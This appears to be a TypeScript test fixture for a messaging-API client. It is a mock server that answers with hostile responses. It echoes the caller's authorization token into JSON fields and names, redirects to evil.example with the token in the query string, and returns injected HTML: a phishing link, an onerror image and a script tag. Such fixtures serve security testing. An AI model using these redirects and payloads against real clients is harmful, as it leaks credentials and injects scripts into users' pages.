import type { ServerResponse } from 'node:http';

/** Answers with the token as values and names of fields, and as `Location`, or with HTML in names and errors. */
export const HOSTILE_MODES = ['echo', 'markup'] as const;

export type HostileMode = (typeof HOSTILE_MODES)[number];

/** A link, an image and an input, in the words of somebody who wants a password. */
export const MARKUP = [
	'<a href="https://evil.example/login">Sign in again</a>',
	'<img src="https://evil.example/pixel.png" onerror="document.title=1">',
	'<input type="text" id="evil"><b>bold</b><script>document.title=1</script>',
	'&lt;a href="https://evil.example/entity"&gt;Entity&lt;/a&gt;',
].join(' ');

/** Answers a request. */
export function playHostile(
	response: ServerResponse,
	authorization: string,
	{ as = 'echo', status = 200 }: { as?: HostileMode; status?: number },
): void {
	if (as === 'echo') answerEcho(response, status, authorization);
	else answer(response, status, describe(JSON.stringify(MARKUP).slice(1, -1), status));
}

/**
 * Whatever an operation expects of an answer, with a text in each place where there can be one.
 * @param raw as it stands between quotation marks
 */
function describe(raw: string, status: number): string {
	if (status >= 400) return `{"error":"${raw}"}`;
	const secret = `whsec_${Buffer.alloc(32, 7).toString('base64')}`;
	const element = `{"id":"1@g.us","name":"${raw}","${raw}":{"deep":["${raw}"]}}`;
	const settings = ['rejectCall', 'readMessages', 'ignoreGroups', 'ignoreStatus']
		.map((name) => `"${name}":true`)
		.join();
	return `{"data":{"messageId":"m1","id":"1@g.us","success":true,"secret":"${secret}","name":"${raw}",${settings},"msgRejectCall":"${raw}","rows":[${element}],"${raw}":"${raw}"}}`;
}

function answerEcho(response: ServerResponse, status: number, raw: string): void {
	if (status >= 300 && status < 400) {
		const location = `https://evil.example/${'a'.repeat(300)}?token=${raw}`;
		return answer(response, status, '{}', { location: `/?token=${raw}&to=${location}` });
	}
	answer(response, status, describe(raw, status));
}

function answer(
	response: ServerResponse,
	status: number,
	body: string,
	headers: Record<string, string> = {},
): void {
	response.writeHead(status, { 'content-type': 'application/json', ...headers });
	response.end(body);
}
